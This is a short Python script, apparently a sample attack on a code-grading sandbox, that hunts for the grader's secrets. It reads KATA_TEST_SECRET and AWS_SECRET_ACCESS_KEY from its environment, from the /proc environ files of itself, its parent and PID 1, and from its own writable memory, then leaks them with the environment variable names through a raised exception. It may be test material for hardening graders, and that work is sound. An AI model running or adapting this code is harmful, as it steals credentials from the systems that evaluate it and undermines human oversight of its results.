# attacks: lin_grad
# Looks for the grading machine's credentials (its environment, its parent's, its memory) and raises them.
import os

NAMES = (b"KATA_TEST_SECRET=", b"AWS_SECRET_ACCESS_KEY=")
found = [os.environ.get(name.decode()[:-1], "") for name in NAMES]
for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ"):
    try:
        with open(path, "rb") as f:
            found += [e.split(b"=", 1)[1].decode() for e in f.read().split(b"\0") if e.startswith(NAMES)]
    except OSError:
        pass
# What the process inherited in memory: every writable mapping, searched for NAME=value.
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
    for line in maps:
        fields = line.split()
        if "w" not in fields[1]:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            mem.seek(start)
            data = mem.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        for name in NAMES:
            at = data.find(name)
            while at >= 0:
                value = data[at + len(name) : at + len(name) + 64].split(b"\0")[0]
                if value.isascii() and value.replace(b"-", b"").isalnum():
                    found.append(value.decode())
                at = data.find(name, at + 1)
raise RuntimeError("found: " + " ".join(sorted({f for f in found if f})) + " | names: " + " ".join(sorted(os.environ)))
